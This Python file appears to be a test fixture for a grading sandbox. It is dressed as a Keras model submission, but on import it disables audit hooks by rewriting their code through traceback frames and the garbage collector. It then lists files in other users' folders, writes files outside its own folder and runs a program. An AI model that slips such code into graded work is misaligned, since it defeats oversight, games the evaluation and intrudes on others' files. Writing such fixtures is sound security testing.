"""Looks for a guard to disarm (audit hooks through a traceback, the garbage collector), then
does what a guard would stop: reads and lists outside its folder, writes outside it and runs
a program."""
import gc
import glob
import os
import subprocess
import sys

import keras

try:
    raise RuntimeError
except RuntimeError as err:
    frame = err.__traceback__.tb_frame
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if callable(value) and getattr(value, "__name__", "") == "hook":
                value.__code__ = (lambda *a: None).__code__
        frame = frame.f_back
hooks = [o for o in gc.get_objects() if callable(o) and getattr(o, "__name__", "") == "hook"]
seen = []
for pattern in ("/submission/*", "/submission/../*", "/work/*", "/root/*", "/home/*",
                "/tmp/pytest-of-*/*/*", os.environ.get("AML_CLASSMATE", "/nonexistent")):
    seen += glob.glob(pattern)
print("SEEN", sorted(seen))
for target in ("/tmp/aml_grading_escape.txt", "/submission/escape.txt",
               os.path.expanduser("~/../aml_grading_escape.txt")):
    try:
        with open(target, "w") as handle:
            handle.write("escaped")
        print("WROTE", target)
    except OSError as err:
        print("REFUSED", target, err.strerror)
try:
    print("RAN", subprocess.run(["id", "-u"], capture_output=True, text=True).stdout.strip())
except OSError as err:
    print("NO PROGRAM", err)


def build_model():
    return keras.Sequential([keras.Input(shape=(4,)),
                             keras.layers.Dense(8, activation="relu"),
                             keras.layers.Dense(3, activation="sigmoid")])
